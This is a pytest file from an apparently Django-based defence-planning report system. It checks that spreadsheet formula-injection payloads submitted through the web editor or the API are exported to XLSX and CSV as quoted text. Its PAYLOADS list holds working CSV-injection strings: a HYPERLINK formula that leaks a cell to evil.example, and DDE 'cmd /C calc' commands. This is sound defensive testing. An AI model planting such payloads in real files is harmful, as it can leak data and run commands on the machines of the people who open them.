"""Formula injection: what delegations type comes back from every report file as text, never as a
formula, whether it was typed in the web editor or sent over the API."""

import csv
import io
from datetime import timedelta

import pytest
import time_machine
from django.test import Client
from django.urls import reverse
from openpyxl import load_workbook
from rest_framework.test import APIClient

from core.exports import FORMULA_TRIGGERS, csv_text, starts_like_formula
from members.actors import Actor
from members.services import api_key_issue
from plans.models import Plan
from reports.builders.tables import csv_value
from reports.models import ComplianceReport
from tests.factories import member, valid_content
from tests.reports.helpers import DEADLINE, OPENS, report_cycle, submitter
from tests.web.conftest import editor_post

pytestmark = pytest.mark.django_db

# The classic payloads (OWASP "CSV injection"): a link that leaks a neighbouring cell, DDE commands.
PAYLOADS = [
    '=HYPERLINK("https://evil.example/?leak="&A2,"Open the plan")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
]


def api_plan_with_payload_lines(cycle) -> None:
    _record, key = api_key_issue(
        actor=Actor.system(), member=member("EE"), name="erp", scopes=["read", "write", "submit"]
    )
    client = APIClient()
    client.credentials(HTTP_AUTHORIZATION=f"Bearer {key}")
    lines = [
        {
            "category": "ammunition",
            "item": payload,
            "unit": "rounds",
            "baseline_capacity": "1000.00",
            "target_capacity": "5000.00",
            "target_year": 2030,
        }
        for payload in PAYLOADS
    ]
    content = {**valid_content(partnerships=[]), "lines": lines}
    body = {key: str(value) if not isinstance(value, list | int | str) else value for key, value in content.items()}
    created = client.post("/api/v1/plans/", {"cycle": cycle.year, **body}, format="json")
    assert created.status_code == 201, created.json()
    submitted = client.post(f"/api/v1/plans/{created.json()['id']}/submit/", format="json")
    assert submitted.status_code == 201, submitted.json()


def web_plan_with_payload_partners(cycle) -> None:
    user = submitter("LV").user
    client = Client()
    client.force_login(user)
    client.post(reverse("plan-start"))
    plan = Plan.objects.get(member__code="LV", cycle=cycle)
    partnerships = [{"kind": "industry", "partner_name": payload, "status": "signed"} for payload in PAYLOADS]
    saved = client.post(
        reverse("plan-edit", args=[plan.pk]),
        editor_post(valid_content(partnerships=partnerships), revision=plan.revision),
    )
    assert saved.status_code == 302, saved.context and saved.context.get("headline").errors
    assert client.post(reverse("plan-submit", args=[plan.pk])).status_code == 302


@pytest.fixture
def report(settings, tmp_path, charlie, django_capture_on_commit_callbacks):
    settings.SECURE_SSL_REDIRECT = False
    settings.MEDIA_ROOT = tmp_path / "media"
    settings.PASSWORD_HASHERS = ["django.contrib.auth.hashers.MD5PasswordHasher"]
    cycle = report_cycle()
    with time_machine.travel(OPENS + timedelta(days=10), tick=False):
        api_plan_with_payload_lines(cycle)
        web_plan_with_payload_partners(cycle)
    staff = APIClient()
    staff.force_authenticate(charlie)
    with django_capture_on_commit_callbacks(execute=True), time_machine.travel(DEADLINE + timedelta(days=1)):
        assert staff.post("/api/v1/reports/", {"cycle": cycle.year}, format="json").status_code == 202
    return ComplianceReport.objects.get()


def text_cells(workbook) -> dict[str, list]:
    """Every cell whose value is one of the payloads: (type, value, quote prefix), by sheet."""
    found = {}
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.value in PAYLOADS:
                    found.setdefault(sheet.title, []).append((cell.data_type, cell.value, bool(cell.quotePrefix)))
    return found


def test_payloads_from_the_web_and_the_api_come_back_as_text_from_the_xlsx(report, charlie):
    staff = APIClient()
    staff.force_authenticate(charlie)
    through_api = b"".join(staff.get(f"/api/v1/reports/{report.pk}/xlsx/").streaming_content)
    page = Client()
    page.force_login(charlie)
    through_page = b"".join(page.get(reverse("reports:download", args=[report.pk, "xlsx"])).streaming_content)
    for content in (through_api, through_page):
        cells = text_cells(load_workbook(io.BytesIO(content)))
        assert cells == {
            "Capability lines": [("s", payload, True) for payload in PAYLOADS],
            # lines outside the catalogue are listed one by one
            "Other lines (not summed)": [("s", payload, True) for payload in PAYLOADS],
            "Partnerships": [("s", payload, True) for payload in PAYLOADS],
        }


def test_numbers_stay_numbers_and_plain_text_has_no_prefix(report, charlie):
    staff = APIClient()
    staff.force_authenticate(charlie)
    workbook = load_workbook(io.BytesIO(b"".join(staff.get(f"/api/v1/reports/{report.pk}/xlsx/").streaming_content)))
    lines = workbook["Capability lines"]
    header = [cell.value for cell in lines[1]]
    first = {header[index]: cell for index, cell in enumerate(lines[2])}
    assert (first["Baseline capacity"].data_type, first["Baseline capacity"].value) == ("n", 1000)
    assert (first["Ally"].value, first["Ally"].data_type, first["Ally"].quotePrefix) == ("EE", "s", False)


def test_the_report_csv_writes_no_formula(report, charlie):
    staff = APIClient()
    staff.force_authenticate(charlie)
    text = b"".join(staff.get(f"/api/v1/reports/{report.pk}/csv/").streaming_content).decode("utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert [cell for cell in cells if starts_like_formula(cell)] == []


@pytest.mark.parametrize("trigger", FORMULA_TRIGGERS)
def test_every_trigger_is_neutralised_in_csv(trigger):
    value = f"{trigger}1+1"
    assert (csv_text(value), csv_value(value)) == (f"'{value}", f"'{value}")


def test_csv_numbers_and_plain_text_are_unchanged():
    from decimal import Decimal

    assert [csv_value(Decimal("-5.00")), csv_value("Stinger interceptors"), csv_value(None)] == [
        "-5.00",
        "Stinger interceptors",
        "",
    ]
